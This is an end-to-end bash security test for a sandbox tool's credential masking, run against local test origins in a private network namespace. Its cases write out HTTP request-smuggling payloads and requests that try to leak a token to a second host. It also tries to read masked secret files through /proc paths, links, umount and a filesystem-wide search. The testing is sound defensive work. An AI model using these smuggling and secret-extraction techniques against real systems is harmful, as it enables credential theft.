#!/usr/bin/env bash
# tests/e2e/cred_attack.sh - rt-12: attacks on "credentials" in `sluice run`
# (issue 24). Each case passes when the boundary holds: the real value of a
# masked variable or file never reaches the sandbox (also not in a form
# its origin re-encoded), never reaches a host outside the entry's
# injectHosts, and a placeholder never goes to its host in plain HTTP.
# What response masking cannot do (README, "Credentials": an injection
# host that re-encodes, splits or stores what it is sent) is printed as a
# KNOWN LIMIT line, not judged; tests/e2e/rt-12-report.md explains them.
#
# As root: a private network namespace (unshare -n); inj.test (the
# credential's host) is 127.0.0.10 and other.test is 127.0.0.11, each
# with an HTTPS and a plain-HTTP origin (cred-helpers/attack_origin.py)
# that records what it gets under its own address and answers some paths
# with the request's X-Tok header echoed in a re-encoded form; dnsmasq on
# 127.0.0.1 answers the *.test names. The cases run as root, then as an
# unprivileged user (setpriv) in the same namespace. Nothing reaches the
# host's network. Skips when not root. (Preamble, namespace and origin
# set-up follow credentials.sh.)
set -uo pipefail
SLUICE=${1:?usage: cred_attack.sh PATH/TO/sluice}
case $SLUICE in /*) ;; *) SLUICE=$(cd "$(dirname "$SLUICE")" && pwd)/$(basename "$SLUICE") ;; esac
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OI=127.0.0.10 OO=127.0.0.11

. "$HERE/netns.sh"
e2e_netns CRED_NETNS "cred_attack" "$SLUICE"

. "$HERE/lib.sh"
e2e_who CRED_CHILD
# a documented limit, shown and not counted: "limit held|shown WHAT"
limit() {
    if [ "$1" = held ]; then echo "# [$WHO] KNOWN LIMIT did not show (masked after all: make it a case): $2"
    else echo "# [$WHO] KNOWN LIMIT (README, Credentials): $2"; fi
}

# The secrets. REAL has '+', '/' and '=' (as AWS secret keys and base64
# tokens do): the placeholder keeps them, and they are what URL and JSON
# encoders change.
REAL='ghp_R3al+T0ken/Value0123456789abcdEF=='
FREAL=file-secret-9f8e7d6c5b4a39281706aa
WREAL=cwd-file-secret-0a1b2c3d4e5f60718293
LREAL=link-file-secret-aa11bb22cc33dd44ee
# REAL as an origin may write it
R_PLUS=${REAL//+/ }
R_PCT=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$REAL")
R_JSON=${REAL//\//\\/}
R_HEX=$(printf '%s' "$REAL" | od -An -tx1 | tr -d ' \n')
hide() { sed "s|$REAL|<REAL>|g; s|$FREAL|<FREAL>|g; s|$WREAL|<WREAL>|g; s|$LREAL|<LREAL>|g" | cut -c1-300 | head -${1:-20}; }

# --- the cases (root, then the user: the state comes in CRED_*) ---------------
cases() {
    local S=$SJ/s.json SP=$SJ/plain.json out rc log=$T/log.$WHO r P
    export XDG_RUNTIME_DIR=$T/xdg
    mkdir -p -m 700 "$XDG_RUNTIME_DIR"
    cd "$T" || return
    sr() { TOKEN=$REAL "$SLUICE" run --log "$log" --settings "$@"; }
    rec() { cat "$SH/rec/"* 2>/dev/null; }
    at() { grep "^$1 " | cut -d' ' -f2-; } # the records of one address
    : > "$log"
    U=https://inj.test:$PA O=https://other.test:$PA
    C="curl -sS --max-time 10"
    RAW="python3 $SH/h/rawc.py"

    # ---- responses: an injection host's answer re-encodes the real value ----
    rm -f "$SH/rec/"*
    out=$(sr "$S" -- sh -c 'printf "P=%s\n" "$TOKEN"
        echo "--gz"; '"$C"' --compressed -H "X-Tok: $TOKEN" '"$U"'/gz
        echo "--gzraw"; '"$C"' -H "X-Tok: $TOKEN" -o /tmp/gz -w "code %{http_code}\n" '"$U"'/gzraw; gzip -dc < /tmp/gz 2>/dev/null
        echo "--gz204"; '"$C"' -D - -H "X-Tok: $TOKEN" '"$U"'/gz204
        echo "--qplus"; '"$C"' "'"$U"'/qplus?t=$TOKEN"
        echo "--qpct"; '"$C"' -H "X-Tok: $TOKEN" '"$U"'/qpct
        echo "--json"; '"$C"' -H "X-Tok: $TOKEN" '"$U"'/jsonslash
        echo "--hex"; '"$C"' -H "X-Tok: $TOKEN" '"$U"'/hex
        echo "--b64nl"; '"$C"' -H "X-Tok: $TOKEN" '"$U"'/b64nl
        echo "--halves"; '"$C"' -H "X-Tok: $TOKEN" '"$U"'/halves
        echo "--trailer"; '"$C"' --raw -D - -H "X-Tok: $TOKEN" '"$U"'/trailer
        echo "--redir"; '"$C"' -D - -H "X-Tok: $TOKEN" '"$U"'/redir
        echo "--ws"; printf "GET /ws HTTP/1.1\r\nHost: inj.test:'"$PA"'\r\nConnection: Upgrade\r\nUpgrade: echo\r\nX-Tok: %s\r\n\r\n" "$TOKEN" | '"$RAW"' tls inj.test:'"$PA"'
        echo "--store"; printf "note: %s\n" "$TOKEN" > /tmp/paste; '"$C"' --data-binary @/tmp/paste '"$U"'/store
        '"$C"' '"$U"'/load; '"$C"' '"$O"'/load
        echo "--drop"; '"$C"' -i -H "X-Tok: $TOKEN" "'"$U"'/drop/$TOKEN?q=$TOKEN"
        echo "--h2"; '"$C"' --http2 -i -H "X-Tok: $TOKEN" '"$U"'/h2
        echo "--end"' 2>&1)
    P=$(sed -n 's/^P=//p' <<<"$out")
    part() { sed -n "/^--$1\$/,/^--/p" <<<"$out"; }
    [ -n "${CRED_DEBUG:-}" ] && printf '%s\n' "$out" > "$CRED_DEBUG.resp.$WHO"
    r=$(rec | at "$OI")
    if ! grep -qF "$REAL" <<<"$r"; then
        bad "response cases: inj.test did not get the real value (the set-up is wrong)" "$(hide <<<"$r$out")"
    fi
    # HOLE: the client asks for gzip; the body is not scanned when encoded
    grep -q "^echo " <<<"$(part gz)" && ! grep -qF "$REAL" <<<"$(part gz)" &&
        ok "gzip: the sandbox asks for gzip (Accept-Encoding), the echo of the real value comes back masked (sluice drops Accept-Encoding toward a credential host)" ||
        bad "HOLE gzip: an injection host's gzip response (asked for with Accept-Encoding) carries the real value to the sandbox unmasked" "$(part gz | hide)"
    grep -q "^echo \|^code 502" <<<"$(part gzraw)" && ! grep -qF "$REAL" <<<"$(part gzraw)" &&
        ok "gzip unasked: an encoded response from a credential host is refused (502), the real value in it does not reach the sandbox" ||
        bad "HOLE gzip unasked: an injection host that encodes its responses anyway hands the real value back" "$(part gzraw | hide)"
    grep -q "^HTTP/1.1 204" <<<"$(part gz204)" && grep -qi "^x-echo: $P" <<<"$(part gz204)" && ! grep -qF "$REAL" <<<"$(part gz204)" &&
        ok "a bodiless response (204) with a Content-Encoding from a credential host passes, its head masked" ||
        bad "bodiless encoded response" "$(part gz204 | hide)"
    # HOLE (design limit): an origin's own encodings of what it was sent
    for k in "qplus:$R_PLUS:a query decoded as a form ('+' becomes ' ')" \
             "qpct:$R_PCT:percent-encoded" "json:$R_JSON:JSON with '/' written '\\/'" \
             "hex:$R_HEX:hex"; do
        n=${k%%:*} v=${k#*:} v=${v%%:*} d=${k##*:}
        grep -q . <<<"$(part "$n" | sed 1d)" && ! grep -qF -- "$v" <<<"$(part "$n")" &&
            limit held "$n: the real value echoed $d" ||
            limit shown "$n: response masking covers only the literal and base64 forms: the real value echoed $d reaches the sandbox"
    done
    b=$(part b64nl | sed '1d;$d' | tr -d '\n' | base64 -d 2>/dev/null)
    [ -n "$(part b64nl | sed '1d;$d')" ] && [ "$b" != "$REAL" ] &&
        limit held "b64nl: base64 broken into lines" ||
        limit shown "b64nl: the real value as base64 with line breaks (as GitHub's contents API writes files) reaches the sandbox"
    b=$(part halves | sed -n 's/^{"a":"\(.*\)","b":"\(.*\)"}$/\1\2/p')
    [ -n "$b" ] && [ "$b" != "$REAL" ] &&
        limit held "halves: the real value echoed in two pieces" ||
        limit shown "halves: the real value echoed in two pieces (a partial echo) reaches the sandbox"
    grep -q "^stored" <<<"$(part store)" && grep -q "^note: $P" <<<"$(part store)" && ! grep -qF "$REAL" <<<"$(part store)" &&
        limit held "store and load across hosts" ||
        limit shown "store and load: the sandbox stores the placeholder at inj.test (the proxy makes it the real value), then loads it from other.test, whose responses are not masked"
    grep -q "^HTTP/1.1 5" <<<"$(part drop)" && ! grep -qF "$REAL" <<<"$(part drop)" &&
        ok "an injection host that drops the connection: sluice's own error page (after the head was substituted) holds no real value" ||
        bad "error page after substitution" "$(part drop | hide)"
    grep -q "^echo $P" <<<"$(part h2)" && ! grep -qF "$REAL" <<<"$(part h2)" &&
        ok "curl --http2 to an injection host: HTTP/1.1 inside the terminated tunnel, substituted and masked" ||
        bad "http2 to an injection host" "$(part h2 | hide)"
    ! grep -qF "$REAL" <<<"$(part trailer)" &&
        ok "a chunked response's trailer with the real value does not reach the sandbox (trailers are dropped)" ||
        bad "trailer carries the real value" "$(part trailer | hide)"
    grep -qi "^location: .*$P" <<<"$(part redir)" && ! grep -qF "$REAL" <<<"$(part redir)" &&
        ok "a redirect's Location with the real value comes back with the placeholder" ||
        bad "redirect Location" "$(part redir | hide)"
    grep -q "^HTTP/1.1 101" <<<"$(part ws)" && ! grep -qF "$REAL" <<<"$(part ws)" &&
        ok "101 Switching Protocols from an injection host: neither its head nor the bytes after it carry the real value" ||
        { grep -qF "$REAL" <<<"$(part ws)" &&
            bad "HOLE upgrade: a 101 from an injection host echoes the substituted request's real value in its head and the raw bytes after it (not masked)" "$(part ws | hide)" ||
            { grep -q "^HTTP/1.1 [45]" <<<"$(part ws)" &&
                ok "101 Switching Protocols to an injection host is refused (nothing unmasked comes back)" ||
                bad "upgrade case: no answer" "$(part ws | hide)"; }; }

    # ---- requests: where the real value goes ----
    # in a terminated tunnel to other.test, an absolute-form target and a
    # Host header naming inj.test; keep-alive with a second request
    rm -f "$SH/rec/"*
    out=$(sr "$S" -- sh -c 'printf "P=%s\n" "$TOKEN"
        '"$C"' -o /dev/null --request-target "https://inj.test:'"$PA"'/r1?t=$TOKEN" -H "X-Tok: $TOKEN" '"$O"'/r1
        '"$C"' -o /dev/null -H "Host: inj.test:'"$PA"'" -H "X-Tok: $TOKEN" '"$O"'/r1b
        printf "GET /k1 HTTP/1.1\r\nHost: other.test:'"$PA"'\r\nX-Tok: %s\r\n\r\nGET https://inj.test:'"$PA"'/k2 HTTP/1.1\r\nHost: inj.test\r\nX-Tok: %s\r\nConnection: close\r\n\r\n" "$TOKEN" "$TOKEN" | '"$RAW"' tls other.test:'"$PA"' >/dev/null
        printf "GET /k3 HTTP/1.1\r\nHost: inj.test:'"$PA"'\r\nX-Tok: %s\r\n\r\nGET https://other.test:'"$PA"'/k4 HTTP/1.1\r\nHost: other.test\r\nX-Tok: %s\r\nConnection: close\r\n\r\n" "$TOKEN" "$TOKEN" | '"$RAW"' tls inj.test:'"$PA"' >/dev/null
        '"$C"' -o /dev/null -H "X-Tok: $TOKEN" https://'"$OI"':'"$PA"'/byip -k
        echo done' 2>&1)
    sleep 0.3
    P=$(sed -n 's/^P=//p' <<<"$out") r=$(rec)
    if ! grep -qF "$REAL" <<<"$(at "$OO" <<<"$r")" && ! grep -q "LINE GET /r1" <<<"$(at "$OI" <<<"$r")" &&
        grep -q "LINE GET /k1 " <<<"$(at "$OO" <<<"$r")" && ! grep -q "/k2 \|/k4 " <<<"$(at "$OO" <<<"$r")" &&
        grep -q "H x-tok: $REAL" <<<"$(at "$OI" <<<"$r")"; then
        ok "a tunnel to other.test never carries the real value (absolute-form target or Host header naming inj.test, keep-alive with a second request naming the other host); requests in a tunnel go only to its CONNECT target"
    else bad "tunnel target confusion" "$(hide 40 <<<"$r$out")"; fi
    if grep -q "LINE GET /byip" <<<"$(at "$OI" <<<"$r")" && grep -q "H x-tok: $P" <<<"$(grep -A5 "LINE GET /byip" <<<"$(at "$OI" <<<"$r")")"; then
        ok "a CONNECT to inj.test's address (not its name) gets the placeholder: injectHosts is by name"
    else bad "CONNECT to the injection host's IP" "$(grep -A6 byip <<<"$r" | hide)"; fi

    # plain HTTP with allowPlaintextInject: keep-alive and pipelining from
    # inj.test to other.test on one proxy connection, and smuggling
    rm -f "$SH/rec/"*
    out=$(sr "$SP" -- sh -c 'printf "P=%s\n" "$TOKEN"
        '"$C"' -o /dev/null -H "X-Tok: $TOKEN" http://inj.test:'"$PH"'/a1 --next -sS --max-time 10 -o /dev/null -H "X-Tok: $TOKEN" "http://other.test:'"$PH"'/a2?t=$TOKEN"
        printf "GET http://inj.test:'"$PH"'/p1 HTTP/1.1\r\nHost: inj.test:'"$PH"'\r\nX-Tok: %s\r\n\r\nGET http://other.test:'"$PH"'/p2 HTTP/1.1\r\nHost: other.test:'"$PH"'\r\nX-Tok: %s\r\n\r\nGET http://inj.test:'"$PH"'/p3 HTTP/1.1\r\nHost: inj.test:'"$PH"'\r\nConnection: close\r\n\r\n" "$TOKEN" "$TOKEN" | '"$RAW"' plain >/dev/null
        sm="GET http://other.test:'"$PH"'/smug HTTP/1.1\r\nHost: other.test:'"$PH"'\r\nX-Tok: $TOKEN\r\n\r\n"
        n=$(printf "$sm" | wc -c)
        printf "POST http://inj.test:'"$PH"'/s1 HTTP/1.1\r\nHost: inj.test:'"$PH"'\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$sm" | '"$RAW"' plain | head -1
        printf "POST http://inj.test:'"$PH"'/s2 HTTP/1.1\r\nHost: inj.test:'"$PH"'\r\nContent-Length: 0\r\nContent-Length: $n\r\n\r\n$sm" | '"$RAW"' plain | head -1
        printf "POST http://inj.test:'"$PH"'/s3 HTTP/1.1\r\nHost: inj.test:'"$PH"'\r\nTransfer-Encoding: chunked\r\n\r\n%x;ext=\"$TOKEN\"\r\n$sm\r\n0\r\n\r\n" $n | '"$RAW"' plain slow | head -1
        printf "POST http://inj.test:'"$PH"'/s4 HTTP/1.1\r\nHost: inj.test:'"$PH"'\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: $n\r\n\r\n$sm" | '"$RAW"' plain | head -1
        echo done' 2>&1)
    sleep 0.3
    P=$(sed -n 's/^P=//p' <<<"$out") r=$(rec)
    [ -n "${CRED_DEBUG:-}" ] && printf '%s\n' "$out" "$r" > "$CRED_DEBUG.plain.$WHO"
    if ! grep -qF "$REAL" <<<"$(at "$OO" <<<"$r")" && grep -q "LINE GET /a2?t=$P" <<<"$(at "$OO" <<<"$r")" &&
        grep -q "LINE GET /p2 " <<<"$(at "$OO" <<<"$r")" && grep -q "H x-tok: $REAL" <<<"$(at "$OI" <<<"$r")"; then
        ok "plain HTTP (allowPlaintextInject): keep-alive, pipelining and smuggling (CL+TE, two Content-Lengths, a chunk extension, obs-fold) from inj.test never bring the real value to other.test"
    else bad "plain HTTP keep-alive/pipelining/smuggling" "$(hide 30 <<<"$r$out")"; fi

    # fail closed in plain HTTP (allowPlaintextInject off): the placeholder
    # in forms of Basic the head scanner does not decode
    rm -f "$SH/rec/"*
    out=$(sr "$S" -- sh -c 'printf "P=%s\n" "$TOKEN"
        b=$(printf "x:%s" "$TOKEN" | base64 -w0); nb=$(printf "%s" "$b" | tr -d =)
        '"$C"' -o /dev/null -H "Authorization: Bearer none" -H "Authorization: Basic $b" http://inj.test:'"$PH"'/b1
        '"$C"' -o /dev/null -H "Authorization: Basic  $b" http://inj.test:'"$PH"'/b2
        '"$C"' -o /dev/null -H "$(printf "Authorization: Basic\t%s" "$b")" http://inj.test:'"$PH"'/b3
        '"$C"' -o /dev/null -H "Authorization: Basic $nb" http://inj.test:'"$PH"'/b4
        '"$C"' -o /dev/null -H "X-Auth: Basic $b" http://inj.test:'"$PH"'/b5
        echo done' 2>&1)
    sleep 0.3
    P=$(sed -n 's/^P=//p' <<<"$out") r=$(rec | at "$OI")
    PB=$(printf 'x:%s' "$P" | base64 -w0) PBI=$(printf 'x:%s' "$P" | base64 -w0 | cut -c5-40)
    for k in b1:"a second Authorization header" b2:"two spaces after Basic" b3:"a tab after Basic" b4:"base64 without padding"; do
        n=${k%%:*} d=${k#*:}
        if grep -q "LINE GET /$n " <<<"$r" && grep -qF "$PBI" <<<"$(sed -n "/LINE GET \/$n /,/LINE/p" <<<"$r")"; then
            bad "HOLE (low) plain HTTP to the credential's host with allowPlaintextInject off: the placeholder as Basic credentials with $d is sent (not refused)" "$(grep -A4 "/$n " <<<"$r" | hide 5)"
        else ok "plain HTTP to the credential's host: Basic credentials with $d holding the placeholder are not sent"; fi
    done

    # ---- masked files: other ways to the real bytes ----
    out=$(sr "$SJ/files.json" -- sh -c 'cd '"$SH"'/wd || exit 1
        for f in '"$SH"'/tok.txt '"$SH"'/wd/tok2.txt '"$SH"'/link.txt '"$SH"'/real3.txt; do
            echo "== $f"; cat "$f"; cat "/proc/self/root$f"; cat "/proc/1/root$f" 2>&1
            python3 -c "import os,sys; d=os.open(os.path.dirname(sys.argv[1]),os.O_RDONLY); print(os.read(os.open(os.path.basename(sys.argv[1]),os.O_RDONLY,dir_fd=d),999).decode().strip())" "$f" 2>&1 | tail -1
        done
        echo "== attempts"
        ln tok2.txt hl 2>&1; cat hl 2>/dev/null
        mv tok2.txt moved 2>&1; cat moved 2>/dev/null
        rm -f tok2.txt 2>&1; true > tok2.txt 2>&1; cat tok2.txt
        cp --reflink=always tok2.txt cl 2>&1; cat cl 2>/dev/null
        umount tok2.txt 2>&1
        unshare -Urm sh -c "umount '"$SH"'/wd/tok2.txt; cat '"$SH"'/wd/tok2.txt" 2>&1
        ls -la "$XDG_RUNTIME_DIR" /run/sluice 2>&1; find / -xdev -name "tok2.txt*" 2>/dev/null | xargs cat 2>/dev/null
        echo "== end"' 2>&1)
    if ! grep -qF -e "$FREAL" -e "$WREAL" -e "$LREAL" <<<"$out" && [ "$(grep -c '^== ' <<<"$out")" = 6 ] &&
        grep -qxF "$WREAL" "$SH/wd/tok2.txt" && grep -qxF "$FREAL" "$SH/tok.txt" && grep -qxF "$LREAL" "$SH/real3.txt"; then
        ok "a masked file's real bytes are out of reach: /proc/self/root, /proc/1/root, a directory descriptor, a link named in settings and its target, a hard link, rename, unlink, truncation, a reflink, umount (also in a new user namespace), a search of the file system; the host's files are intact"
    else bad "masked file" "$(hide 60 <<<"$out")"; fi

    # ---- the same real value in another variable (not masked, not on the
    # secret list): it must not come in as it is ----
    out=$(MYAPP_CFG=$REAL MYAPP_URL="https://x:$REAL@inj.test/" sr "$S" -- sh -c 'printf "P=%s\nC=%s\nU=%s\n" "$TOKEN" "$MYAPP_CFG" "$MYAPP_URL"' 2>&1)
    P=$(sed -n 's/^P=//p' <<<"$out")
    if ! grep -qF "$REAL" <<<"$out" && grep -qxF "C=$P" <<<"$out" && grep -qxF "U=https://x:$P@inj.test/" <<<"$out"; then
        ok "another variable holding the masked value (whole or inside) comes in with the placeholder in its place"
    else bad "HOLE env copy: another variable with the masked variable's real value reaches the sandbox as it is" "$(hide <<<"$out")"; fi

    # ---- the placeholder: random on each run, never derived from the value ----
    p1=$(sr "$S" -- sh -c 'printf "%s" "$TOKEN"' 2>/dev/null) p2=$(sr "$S" -- sh -c 'printf "%s" "$TOKEN"' 2>/dev/null)
    if [ "${#p1}" = "${#REAL}" ] && [ "$p1" != "$p2" ] && [ "$p1" != "$REAL" ] &&
        [ "$(tr -cd '0-9a-zA-Z' <<<"$p1" | wc -c)" -ge 16 ]; then
        same=0; for i in $(seq 0 $((${#REAL} - 1))); do [ "${p1:$i:1}" = "${REAL:$i:1}" ] && same=$((same + 1)); done
        [ "$same" -le 14 ] && ok "placeholders differ on each run and share with the value only its punctuation and a chance letter or two ($same of ${#REAL})" ||
            bad "placeholder too close to the value" "$same equal positions"
    else bad "placeholder randomness" "len ${#p1}"; fi

    # no real value in the log of these runs
    ! grep -qF -e "$REAL" -e "$FREAL" -e "$WREAL" -e "$LREAL" "$log" && [ -s "$log" ] &&
        ok "no real value in sluice's log of every attack above" || bad "a real value in the log" "$(grep -F "$REAL" "$log" | hide 3)"
}

# --- set-up (root, once) ------------------------------------------------------
if [ -z "${CRED_CHILD:-}" ]; then
    if ! ip link set lo up || ip route get 1.1.1.1 >/dev/null 2>&1; then
        bad "no private network namespace"; e2e_finish; exit
    fi
    SH=$(mktemp -d /var/tmp/sluice-cratk.XXXXXX) # visible inside (/tmp is private)
    chmod 755 "$SH"
    # the settings files and the CA they name: root's, where no sandbox
    # writes (s32-cred refuses masking from a file a sandbox could write)
    SJ=$(mktemp -d /run/sluice-cratk-json.XXXXXX) && chmod 755 "$SJ" || { bad "settings directory"; e2e_finish; exit; }
    trap 'e2e_cleanup; rm -rf "$SH" "$SJ"' EXIT
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj "/CN=cred CA" \
        -keyout "$SH/ca.key" -out "$SH/ca.pem" -addext "basicConstraints=critical,CA:TRUE" \
        -addext "keyUsage=critical,keyCertSign,cRLSign" -addext "subjectKeyIdentifier=hash" 2>>"$SH/openssl.err" &&
        openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=inj.test" \
            -keyout "$SH/o.key" -out "$SH/o.csr" 2>>"$SH/openssl.err" &&
        openssl x509 -req -in "$SH/o.csr" -CA "$SH/ca.pem" -CAkey "$SH/ca.key" -days 30 \
            -extfile <(printf 'subjectAltName=DNS:inj.test,DNS:other.test,IP:%s,IP:%s\nbasicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=serverAuth\nauthorityKeyIdentifier=keyid\n' "$OI" "$OO") \
            -out "$SH/o.pem" 2>>"$SH/openssl.err" || { bad "certificates" "$(cat "$SH/openssl.err")"; e2e_finish; exit; }
    chmod 644 "$SH"/*.pem "$SH/o.key" && cp "$SH/ca.pem" "$SJ/ca.pem"
    mkdir -p "$SH/rec" "$SH/wd" "$SH/h" "$SH/store" && chmod 777 "$SH/rec" "$SH/wd"
    cp "$HERE/cred-helpers/rawc.py" "$HERE/cred-helpers/attack_origin.py" "$SH/h/" && chmod 644 "$SH/h/"*
    printf '%s\n' "$FREAL" > "$SH/tok.txt"
    printf '%s\n' "$LREAL" > "$SH/real3.txt" && ln -s real3.txt "$SH/link.txt"
    chmod 644 "$SH/tok.txt" "$SH/real3.txt"
    PA=$(free_port) PH=$(free_port)
    for a in "$OI" "$OO"; do
        python3 "$SH/h/attack_origin.py" "$a" "$PA" "$PH" "$SH/o.pem" "$SH/o.key" "$SH/rec" 2>>"$SH/origin.err" &
        PIDS+=($!)
    done
    for i in $(seq 100); do
        curl -s -o /dev/null --max-time 1 -k "https://$OO:$PA/up" && curl -s -o /dev/null --max-time 1 -k "https://$OI:$PA/up" && break
        sleep 0.1
    done
    start_dnsmasq --address=/inj.test/$OI --address=/other.test/$OO ||
        { bad "dnsmasq did not start" "$(cat "$T/dnsmasq.err")"; e2e_finish; exit; }
    base='"allowedDomains": ["*.test", "inj.test", "'"$OI"'", "'"$OO"'"], "dnsServers": ["127.0.0.1:'"$DPORT"'"], "denyPrivateAddresses": false'
    creds='"envVars": [{"name": "TOKEN", "mode": "mask", "injectHosts": ["inj.test"]}]'
    cat > "$SJ/s.json" <<JSON
{"network": {$base, "tlsTerminate": {"extraCaCertPaths": ["$SJ/ca.pem"]}}, "credentials": {$creds}}
JSON
    cat > "$SJ/plain.json" <<JSON
{"network": {$base}, "credentials": {"allowPlaintextInject": true, $creds}}
JSON
    cat > "$SJ/files.json" <<JSON
{"network": {$base, "tlsTerminate": {"extraCaCertPaths": ["$SJ/ca.pem"]}},
 "credentials": {$creds, "files": [
   {"path": "$SH/tok.txt", "mode": "mask", "injectHosts": ["inj.test"]},
   {"path": "$SH/wd/tok2.txt", "mode": "mask", "injectHosts": ["inj.test"]},
   {"path": "$SH/link.txt", "mode": "mask", "injectHosts": ["inj.test"]}]}}
JSON
    chmod 644 "$SJ"/*
fi

start=$SECONDS
if [ -n "${CRED_CHILD:-}" ]; then
    SH=$CRED_SH SJ=$CRED_SJ PA=$CRED_PA PH=$CRED_PH DPORT=$CRED_DPORT
    printf '%s\n' "$WREAL" > "$SH/wd/tok2.txt"
    cases
    e2e_finish
    exit
fi
printf '%s\n' "$WREAL" > "$SH/wd/tok2.txt" && chmod 644 "$SH/wd/tok2.txt"
cases
# --- the same cases as an unprivileged user -----------------------------------
if [ -n "${CRED_ROOT_ONLY:-}" ]; then
    echo "# SKIP the unprivileged pass: CRED_ROOT_ONLY"
elif command -v setpriv >/dev/null && { id sluicetest >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin sluicetest >/dev/null 2>&1; }; then
    U=$(id -u sluicetest) G=$(id -g sluicetest)
    cp "$SLUICE" "$SH/sluice" && chmod 755 "$SH/sluice"
    mkdir -p "$SH/e2e" && cp "$HERE/lib.sh" "$HERE/cred_attack.sh" "$SH/e2e/" && chmod -R a+rX "$SH/e2e"
    rm -f "$SH/wd/tok2.txt"
    echo "# --- the same cases as uid $U (setpriv) ---"
    (cd / && setpriv --reuid="$U" --regid="$G" --clear-groups --inh-caps=-all \
        env CRED_NETNS=1 CRED_CHILD=1 CRED_SH="$SH" CRED_SJ="$SJ" CRED_PA="$PA" CRED_PH="$PH" \
        CRED_DPORT="$DPORT" PATH="/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin" \
        bash "$SH/e2e/cred_attack.sh" "$SH/sluice") 2>&1 | tee "$T/child.out"
    e2e_add_counts "$T/child.out"
else
    echo "# SKIP the unprivileged pass: no setpriv or no user"
fi
echo "# cred_attack.sh took $((SECONDS - start)) s"
e2e_finish
